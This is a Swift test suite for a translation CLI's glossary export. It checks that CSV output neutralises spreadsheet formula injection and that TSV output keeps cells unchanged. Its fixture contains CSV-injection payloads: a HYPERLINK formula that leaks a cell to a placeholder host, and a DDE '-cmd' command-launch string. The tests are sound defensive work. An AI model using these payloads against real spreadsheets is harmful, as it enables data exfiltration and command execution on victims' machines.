import Foundation
import Testing

/// Spreadsheet safety (CSV injection, OWASP): the one CSV output, `glossary export --to csv`, puts a
/// `'` before every cell that starts with `=`, `+`, `-`, `@`, a tab or a CR, unless `--raw`. TSV
/// outputs are for CAT tools and scripts (and are read back by Tarjim itself), so they keep every
/// cell as it is: a guard would change the data.
@Suite struct SpreadsheetSafetyTests {
    /// Cells of each formula start, and the harmless everyday ones (negative numbers, dashes) that
    /// OWASP still has guarded because a spreadsheet evaluates `-2+3`.
    static let tsv = """
        معادلة\t=HYPERLINK("http://example.invalid/?"&A1,"click")\tfrom a hostile file
        زيادة\t+20 percent\t@mention in a comment
        انخفاض\tdrop\t-5 percent, -cmd|' /C calc'!A0
        شرطة\t— a dash\tno guard for an em dash
        نص\tplain text\ta=b inside is harmless

        """

    static func glossary() throws -> (dir: URL, file: String) {
        let dir = try CLI.tempDirectory()
        let file = dir.appendingPathComponent("g.tsv").path
        try Data(tsv.utf8).write(to: URL(fileURLWithPath: file))
        return (dir, file)
    }

    @Test func csvExportGuardsEveryFormulaStartByDefault() throws {
        let (dir, file) = try Self.glossary()
        defer { try? FileManager.default.removeItem(at: dir) }
        let r = try CLI.run(["glossary", "export", "--to", "csv", file])
        #expect(r.status == 0, "\(r.stderr)")
        let rows = r.stdout.components(separatedBy: "\r\n")
        #expect(rows[1] == "معادلة,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\")\",from a hostile file,,term,")
        #expect(rows[2] == "زيادة,'+20 percent,'@mention in a comment,,term,")
        #expect(rows[3] == "انخفاض,drop,\"'-5 percent, -cmd|' /C calc'!A0\",,term,")
        #expect(rows[4] == "شرطة,— a dash,no guard for an em dash,,term,")
        #expect(rows[5] == "نص,plain text,a=b inside is harmless,,term,")
    }

    @Test func rawWritesTheCellsAsTheyAreAndStripFormulaGuardUndoesTheGuard() throws {
        let (dir, file) = try Self.glossary()
        defer { try? FileManager.default.removeItem(at: dir) }
        let raw = try CLI.run(["glossary", "export", "--to", "csv", "--raw", file])
        let rows = raw.stdout.components(separatedBy: "\r\n")
        #expect(rows[1] == "معادلة,\"=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\")\",from a hostile file,,term,")
        #expect(rows[2] == "زيادة,+20 percent,@mention in a comment,,term,")
        #expect(rows[3] == "انخفاض,drop,\"-5 percent, -cmd|' /C calc'!A0\",,term,")

        // Guarded export, then import with --strip-formula-guard: the glossary comes back.
        let csv = dir.appendingPathComponent("g.csv").path
        #expect(try CLI.run(["glossary", "export", "--to", "csv", file, "-o", csv]).status == 0)
        let back = try CLI.run(["glossary", "import", "--from", "csv", "--strip-formula-guard", csv])
        let list = try CLI.run(["glossary", "list", file])
        #expect(back.stdout == list.stdout)
        // Without it the guard stays, visible, in the entries.
        let kept = try CLI.run(["glossary", "import", "--from", "csv", csv])
        #expect(kept.stdout.contains("زيادة\t'+20 percent\t'@mention in a comment"))
    }

    /// TSV outputs keep cells beginning with = + - @ unchanged (documented in README, Security).
    @Test func tsvOutputsKeepEveryCellAsItIs() throws {
        let (dir, file) = try Self.glossary()
        defer { try? FileManager.default.removeItem(at: dir) }
        let list = try CLI.run(["glossary", "list", file])
        #expect(
            list.stdout.contains("\t=HYPERLINK(") && list.stdout.contains("\t+20 percent\t@mention") && list.stdout.contains("\t-5 percent")
        )
        let omegat = try CLI.run(["glossary", "export", "--to", "omegat", file])
        #expect(omegat.stdout.contains("زيادة\t+20 percent\t@mention in a comment\n"))

        let source = "=1+1 قال الوزير إن الأسعار انخفضت.\n-5 درجات هي الحرارة اليوم.\n"
        let draft = try CLI.run(["draft", "--no-default-glossaries", "--format", "tsv"], stdin: Array(source.utf8))
        let sources = draft.stdout.split(separator: "\n").map { $0.split(separator: "\t", omittingEmptySubsequences: false)[1] }
        #expect(sources == ["=1+1 قال الوزير إن الأسعار انخفضت.", "-5 درجات هي الحرارة اليوم."])

        let ar = dir.appendingPathComponent("ar.txt")
        let en = dir.appendingPathComponent("en.txt")
        try Data("=1+1 قال الوزير إن الأسعار انخفضت.\n".utf8).write(to: ar)
        try Data("+1 The minister said prices fell.\n".utf8).write(to: en)
        let align = try CLI.run(["align", ar.path, en.path, "--format", "tsv"])
        #expect(align.stdout.contains("=1+1 قال الوزير إن الأسعار انخفضت.\t+1 The minister said prices fell."), "\(align.stdout)")
    }
}
